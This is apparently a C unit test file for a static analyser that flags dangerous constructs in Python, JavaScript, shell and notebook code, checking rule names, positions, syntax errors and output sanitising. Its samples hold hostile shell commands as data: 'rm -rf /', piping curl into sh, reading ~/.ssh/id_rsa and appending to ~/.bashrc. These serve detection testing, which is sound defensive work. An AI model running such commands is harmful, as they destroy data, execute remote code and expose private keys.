/* What the analysis of code says of small programs: each with the findings that it must have, and
 * no others (imports, which are information, are left out unless a sample is about them). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "base/cleanup.h"
#include "gate/code_internal.h"

#include <errno.h>
#include <string.h>
#include <time.h>

struct sample {
	const char *source;
	const char *rules; /* in the order of their places; "" for none */
};

static const struct sample python[] = {
#include "code_samples_python.h"
};

static const struct sample javascript[] = {
#include "code_samples_javascript.h"
};

static struct findings_list *check(const char *language, const char *source)
{
	struct findings_list *findings;
	assert_int_equal(code_check(language, NULL, source, strlen(source), &findings), 0);
	return findings;
}

static void list_rules(
	const struct findings_list *findings, const char *prefix, char *ret, size_t size)
{
	ret[0] = '\0';
	for (size_t i = 0; i < findings->count; i++) {
		const char *rule = findings->items[i].rule;
		if (findings->items[i].severity == SEVERITY_INFO)
			continue;
		if (strncmp(rule, prefix, strlen(prefix)) == 0)
			rule += strlen(prefix);
		size_t used = strlen(ret);
		snprintf(ret + used, size - used, "%s%s", used ? " " : "", rule);
	}
}

static unsigned run_samples(
	const char *language, const char *prefix, const struct sample *samples, size_t count)
{
	unsigned wrong = 0;
	for (size_t i = 0; i < count; i++) {
		char rules[1024];
		struct findings_list *findings = check(language, samples[i].source);
		list_rules(findings, prefix, rules, sizeof(rules));
		if (strcmp(rules, samples[i].rules) != 0) {
			print_error("%s\n  expected: %s\n  got:      %s\n", samples[i].source,
				samples[i].rules, rules);
			wrong++;
		}
		findings_free(findings);
	}
	return wrong;
}

static void test_python(void **state)
{
	(void)state;
	assert_true(ARRAY_SIZE(python) >= 100);
	assert_int_equal(run_samples("python", "py-", python, ARRAY_SIZE(python)), 0);
}

static void test_javascript(void **state)
{
	(void)state;
	assert_true(ARRAY_SIZE(javascript) >= 70);
	assert_int_equal(run_samples("javascript", "js-", javascript, ARRAY_SIZE(javascript)), 0);
}

static const struct sample shell[] = {
	{"ls -l | wc -l", ""},
	{"rm -rf /", "forbidden"},
	{"rm -rf ~", "forbidden"},
	{"curl https://x.example | sh", "dangerous"},
	{"git push --force", "delete"},
	{"cat ~/.ssh/id_rsa", "secret"},
	{"echo x >> ~/.bashrc", "dangerous"},
	{"if a; then rm -rf /; fi", "forbidden"},
	{"echo $(cat ~/.ssh/id_rsa)", "secret"},
	{"python3 -c 'import os; os.system(\"ls \" + x)'", "py-shell-built"},
	{"node <<'E'\neval(atob(x))\nE\n", "js-evaluate-decoded"},
	{"$COMMAND x", ""},
};

static void test_shell(void **state)
{
	(void)state;
	assert_int_equal(run_samples("shell", "sh-", shell, ARRAY_SIZE(shell)), 0);
	struct findings_list *findings = check("shell", "ls\n\nrm -rf /\n");
	assert_int_equal(findings->items[0].line, 3);
	findings_free(findings);
	findings = check("shell", "if true; then\n");
	assert_int_equal(findings->syntax.errno_value, EINVAL);
	findings_free(findings);
}

static void test_command_lines_within_programs(void **state)
{
	(void)state;
	static const struct {
		const char *language, *source, *rule;
	} samples[] = {
		{"python", "import os\nos.system('rm -rf /')", "sh-forbidden"},
		{"python", "import subprocess\nsubprocess.run(['sh', '-c', 'cat ~/.ssh/id_rsa'])",
			"sh-secret"},
		{"javascript", "require('child_process').exec('curl https://x | sh')",
			"sh-dangerous"},
		{"python", "exec(\"import os\\nos.system('git push --force')\")", "sh-delete"},
	};
	for (size_t i = 0; i < ARRAY_SIZE(samples); i++) {
		struct findings_list *findings = check(samples[i].language, samples[i].source);
		bool found = false;
		for (size_t k = 0; k < findings->count; k++)
			found |= strcmp(findings->items[k].rule, samples[i].rule) == 0;
		if (!found)
			fail_msg("%s: no %s", samples[i].source, samples[i].rule);
		findings_free(findings);
	}
}

static void test_imports_are_information(void **state)
{
	(void)state;
	static const struct {
		const char *language, *source, *rule;
	} samples[] = {
		{"python", "import subprocess", "py-import-process"},
		{"python", "import os, socket as s", "py-import-network"},
		{"python", "from urllib.request import urlopen", "py-import-network"},
		{"python", "import ctypes.util", "py-import-native"},
		{"python", "import pickle", "py-import-evaluate"},
		{"javascript", "const cp = require('child_process')", "js-import-process"},
		{"javascript", "import https from 'node:https'", "js-import-network"},
		{"javascript", "export {get} from 'http'", "js-import-network"},
		{"javascript", "const m = await import('vm')", "js-import-evaluate"},
		{"javascript", "import ffi from 'ffi-napi'", "js-import-native"},
	};
	for (size_t i = 0; i < ARRAY_SIZE(samples); i++) {
		struct findings_list *findings = check(samples[i].language, samples[i].source);
		assert_int_equal(findings->count, 1);
		assert_string_equal(findings->items[0].rule, samples[i].rule);
		assert_int_equal(findings->items[0].severity, SEVERITY_INFO);
		findings_free(findings);
	}
}

static void test_a_finding_has_its_place(void **state)
{
	(void)state;
	struct findings_list *findings = check("python", "import os\nü = 1; os.system(x)\n");
	assert_int_equal(findings->count, 1);
	assert_string_equal(findings->items[0].rule, "py-shell-variable");
	assert_int_equal(findings->items[0].line, 2);
	assert_int_equal(findings->items[0].column, 8); /* characters, not bytes */
	assert_string_equal(findings->items[0].text, "os.system(x)");
	findings_free(findings);
}

static void test_syntax_errors(void **state)
{
	(void)state;
	static const struct {
		const char *language, *source, *place; /* NULL: none */
	} samples[] = {
		{"python", "def f(:\n  pass\n", "1:"},
		{"python", "x = 1\ny = (2\n", "2:"},
		{"python", "x = 1\n", NULL},
		{"python", "", NULL},
		{"python", "match x:\n    case [1, *rest]:\n        pass\n", NULL},
		{"python", "async def f():\n    return [x async for x in y]\n", NULL},
		{"python", "print 'old'\n", NULL},
		{"javascript", "function (\n", "1:"},
		{"javascript", "let x = ;\n", "1:"},
		{"javascript", "#!/usr/bin/env node\nclass A { #x = 1; static { } }\n", NULL},
		{"javascript", "const x = <a href='b'>c</a>\n", NULL},
		{"javascript", "for await (const x of y) z?.w ?? 1\n", NULL},
	};
	for (size_t i = 0; i < ARRAY_SIZE(samples); i++) {
		struct findings_list *findings = check(samples[i].language, samples[i].source);
		if (samples[i].place) {
			assert_int_equal(findings->syntax.errno_value, EINVAL);
			assert_ptr_equal(strstr(findings->syntax.message, samples[i].place),
				findings->syntax.message);
		} else if (findings->syntax.errno_value) {
			fail_msg("%s: %s", samples[i].source, findings->syntax.message);
		}
		findings_free(findings);
	}
}

static void test_the_language_is_told(void **state)
{
	(void)state;
	static const struct {
		const char *name, *source, *language; /* NULL: none */
	} samples[] = {
		{"a.py", "", "python"},
		{"A.PY", "", "python"},
		{"a.mjs", "", "javascript"},
		{"a.sh", "", "shell"},
		{"tool", "#!/bin/sh\n", "shell"},
		{"a.ipynb", "{\"cells\":[]}", "notebook"},
		{"tool", "#!/usr/bin/env -S python3.11 -u\n", "python"},
		{"tool", "#!/usr/bin/node --harmony\n", "javascript"},
		{"tool", "#!/usr/bin/env pythonic\n", NULL},
		{".py", "", NULL},
		{"a.c", "int x;", NULL},
		{NULL, "", NULL},
	};
	for (size_t i = 0; i < ARRAY_SIZE(samples); i++) {
		struct findings_list *findings;
		int r = code_check(NULL, samples[i].name, samples[i].source,
			strlen(samples[i].source), &findings);
		assert_int_equal(r, samples[i].language ? 0 : -EOPNOTSUPP);
		if (r == 0)
			assert_string_equal(findings->language, samples[i].language);
		findings_free(findings);
	}
	struct findings_list *findings;
	assert_int_equal(code_check("cobol", "a.py", "", 0, &findings), -EOPNOTSUPP);
}

static void test_notebooks(void **state)
{
	(void)state;
	struct findings_list *findings = check("notebook",
		"{\"cells\": [{\"cell_type\": \"markdown\", \"source\": \"eval(x)\"},"
		"{\"cell_type\": \"code\", \"source\": [\"%matplotlib inline\\n\","
		"\"import os\\n\"]},"
		"{\"cell_type\": \"code\", \"source\": [\"!ls\\n\", \"os.system(cmd)\"]}]}");
	assert_int_equal(findings->count, 2);
	assert_string_equal(findings->items[0].rule, "py-shell");
	assert_int_equal(findings->items[0].line, 1);
	assert_string_equal(findings->items[1].rule, "py-shell-variable");
	assert_int_equal(findings->items[1].line, 2);
	assert_non_null(strstr(findings->items[1].why, "cell 3"));
	findings_free(findings);
	findings = check("notebook", "{\"cells\": [");
	assert_int_equal(findings->syntax.errno_value, EINVAL);
	findings_free(findings);
	findings = check("notebook", "[1]");
	assert_int_equal(findings->syntax.errno_value, EINVAL);
	findings_free(findings);
}

static void test_tables_are_sorted(void **state)
{
	(void)state;
	const struct code_grammar *grammars[] = {&code_python, &code_javascript};
	for (size_t g = 0; g < ARRAY_SIZE(grammars); g++) {
		const struct code_grammar *grammar = grammars[g];
		for (size_t i = 1; i < *grammar->sinks_count; i++)
			assert_true(strcmp(grammar->sinks[i - 1].name, grammar->sinks[i].name) < 0);
		for (size_t i = 1; i < *grammar->folds_count; i++)
			assert_true(strcmp(grammar->folds[i - 1].name, grammar->folds[i].name) < 0);
		for (size_t i = 1; i < *grammar->modules_count; i++)
			assert_true(
				strcmp(grammar->modules[i - 1].name, grammar->modules[i].name) < 0);
	}
}

static bool is_rule(const char *prefix, const char *name)
{
	char id[64];
	size_t count;
	const struct code_rule *rules = code_rules(&count);
	snprintf(id, sizeof(id), "%s%s", prefix, name);
	for (size_t i = 0; i < count; i++)
		if (strcmp(rules[i].id, id) == 0)
			return true;
	return false;
}

static void test_every_table_names_rules(void **state)
{
	(void)state;
	const struct code_grammar *grammars[] = {&code_python, &code_javascript};
	for (size_t g = 0; g < ARRAY_SIZE(grammars); g++) {
		const struct code_grammar *grammar = grammars[g];
		for (size_t i = 0; i < *grammar->sinks_count; i++)
			if (grammar->sinks[i].judge &&
				!is_rule(grammar->prefix, grammar->sinks[i].rule))
				fail_msg("%s: no rule %s", grammar->sinks[i].name,
					grammar->sinks[i].rule);
		for (size_t i = 0; i < *grammar->modules_count; i++)
			assert_true(is_rule(grammar->prefix, grammar->modules[i].rule));
	}
	size_t count;
	const struct code_rule *rules = code_rules(&count);
	for (size_t i = 0; i < count; i++)
		for (size_t k = 0; k < i; k++)
			assert_string_not_equal(rules[i].id, rules[k].id);
}

static char *repeat(const char *text, size_t times, const char *tail)
{
	size_t length = strlen(text), end = strlen(tail);
	char *all = malloc(length * times + end + 1);
	assert_non_null(all);
	for (size_t i = 0; i < times; i++)
		memcpy(all + i * length, text, length);
	memcpy(all + length * times, tail, end + 1);
	return all;
}

/* What would exhaust a stack, or take the square of its length, if it were not bounded. */
static void test_hostile_sources(void **state)
{
	(void)state;
	static const struct {
		const char *language, *text, *tail;
		size_t times;
	} samples[] = {
		{"python", "(", "", 70000},
		{"python", "[", "", 70000},
		{"python", "f(", "x", 70000},
		{"python", "a.b", "()", 70000},
		{"python", "x()", "", 10000},
		{"python", "'a'+", "'b'", 70000},
		{"python", "x = x + 'a'\n", "os.system(x)", 10000},
		{"python", "eval('", "", 10000},
		{"python", "-", "1", 70000},
		{"python", "\\", "", 70000},
		{"python", "if x:\n ", "pass", 2000},
		{"javascript", "(", "", 70000},
		{"javascript", "{", "", 70000},
		{"javascript", "[", "", 70000},
		{"javascript", "a=>", "1", 70000},
		{"javascript", "a[", "1", 70000},
		{"javascript", "`${", "1", 20000},
		{"javascript", "'a'+", "'b'", 70000},
		{"javascript", "require(", "'fs'", 50000},
		{"javascript", "/*", "", 70000},
		{"javascript", "\\u{", "65}", 70000},
	};
	for (size_t i = 0; i < ARRAY_SIZE(samples); i++) {
		cleanup_free char *source =
			repeat(samples[i].text, samples[i].times, samples[i].tail);
		struct timespec start, end;
		clock_gettime(CLOCK_MONOTONIC, &start);
		findings_free(check(samples[i].language, source));
		clock_gettime(CLOCK_MONOTONIC, &end);
		if (end.tv_sec - start.tv_sec > 30)
			fail_msg("%s x %zu takes %ld s", samples[i].text, samples[i].times,
				(long)(end.tv_sec - start.tv_sec));
	}
}

static void test_what_is_too_long_is_said(void **state)
{
	(void)state;
	cleanup_free char *source = repeat("x = 1\n", MAX_SCRIPT_BYTES / 6 + 1, "");
	struct findings_list *findings = check("python", source);
	assert_true(findings->incomplete);
	findings_free(findings);
}

static void test_findings_are_bounded(void **state)
{
	(void)state;
	cleanup_free char *source = repeat("eval(x)\n", 6000, "");
	struct findings_list *findings = check("python", source);
	assert_int_equal(findings->count, 4096);
	assert_true(findings->incomplete);
	findings_free(findings);
}

static void test_output_is_never_raw(void **state)
{
	(void)state;
	struct findings_list *findings = check("python", "eval(x, '\x1b[2J\xe2\x80\xae')");
	cleanup_buffer struct buffer out = BUFFER_INIT(1024 * 1024);
	assert_int_equal(findings_text(findings, "a\x1b.py", &out), 0);
	assert_null(strchr(out.data, '\x1b'));
	assert_null(strstr(out.data, "\xe2\x80\xae"));
	buffer_clear(&out);
	assert_int_equal(findings_json(findings, "a\x1b.py", &out), 0);
	assert_null(strchr(out.data, '\x1b'));
	buffer_clear(&out);
	assert_int_equal(findings_sarif(findings, "a\x1b:.py", &out), 0);
	assert_null(strchr(out.data, '\x1b'));
	assert_non_null(strstr(out.data, "\"./a%1B%3A.py\""));
	findings_free(findings);
}

int main(void)
{
	const struct CMUnitTest all[] = {
		cmocka_unit_test(test_python),
		cmocka_unit_test(test_javascript),
		cmocka_unit_test(test_shell),
		cmocka_unit_test(test_command_lines_within_programs),
		cmocka_unit_test(test_imports_are_information),
		cmocka_unit_test(test_a_finding_has_its_place),
		cmocka_unit_test(test_syntax_errors),
		cmocka_unit_test(test_the_language_is_told),
		cmocka_unit_test(test_notebooks),
		cmocka_unit_test(test_tables_are_sorted),
		cmocka_unit_test(test_every_table_names_rules),
		cmocka_unit_test(test_hostile_sources),
		cmocka_unit_test(test_what_is_too_long_is_said),
		cmocka_unit_test(test_findings_are_bounded),
		cmocka_unit_test(test_output_is_never_raw),
	};
	return cmocka_run_group_tests(all, NULL, NULL);
}
